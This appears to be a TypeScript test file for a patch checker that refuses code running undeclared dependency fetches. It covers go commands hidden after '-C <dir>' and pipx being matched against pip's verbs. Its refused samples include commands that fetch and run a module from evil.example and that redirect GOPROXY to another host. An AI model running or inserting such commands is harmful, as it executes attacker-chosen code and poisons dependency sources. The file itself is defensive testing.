import { describe, it } from 'vitest';
import { expectAccepted, expectRefused } from '../support/patches.js';

/**
 * Session 45 (found while tabling the package managers' rules): go's fetching forms (`go run mod@version`, `go env -w`)
 * were read only right after the name `go`, while its allowed verbs were read past `-C <dir>` too; so `go -C . run
 * evil.example/x@latest` fetched and ran a module of the patch author's choosing, and `go -C . env -w GOPROXY=…`
 * pointed every later `go test` at another proxy. Both forms are now read past `-C <dir>` as the verbs are.
 */
const SYSTEM = (command: string) => `import os\nos.system('${command}')`;

describe('session 45: go given a directory (`go -C <dir>`) before a fetching form', () => {
  it.each([
    ['src/check.py', SYSTEM('go -C . run evil.example/x@latest')],
    ['src/check.py', SYSTEM('go -C backend run golang.org/x/tools/cmd/stringer@v0.1.0')],
    ['src/check.py', SYSTEM('go -C backend env -w GOFLAGS=-mod=mod')],
    ['src/check.js', "execSync('go -C ./svc env -w GOPROXY=https://x.example')"],
  ])('refuses, in %s: %s', (path, text) => expectRefused(path, text, 'a dependency no manifest declares'));

  it.each([
    ['src/check.py', SYSTEM('go -C backend test ./...')],
    ['src/check.py', SYSTEM('go -C backend run ./cmd/server')],
    ['src/check.py', SYSTEM('go -C backend env GOPATH')],
  ])('still accepts, in %s: %s', (path, text) => expectAccepted(path, text));
});

/**
 * Session 45: an argument list given to `pipx` was read against pip's verbs (the name was matched by its prefix `pip`),
 * so `-V`, a verb of pip's list and not of pipx's, was accepted from pipx. Harmless today (pipx has no `-V`), but a
 * manager's list is its own.
 */
describe("session 45: pipx's argument list read against pipx's verbs, not pip's", () => {
  it('refuses pip-only verbs given to pipx', () => expectRefused('src/check.py', "import subprocess\nsubprocess.run(['pipx', '-V'])"));
  it("still accepts pipx's own", () => expectAccepted('src/check.py', "import subprocess\nsubprocess.run(['pipx', 'list'])"));
  it("still reads pip3.11 against pip's", () => expectAccepted('src/check.py', "import subprocess\nsubprocess.run(['pip3.11', '-V'])"));
});
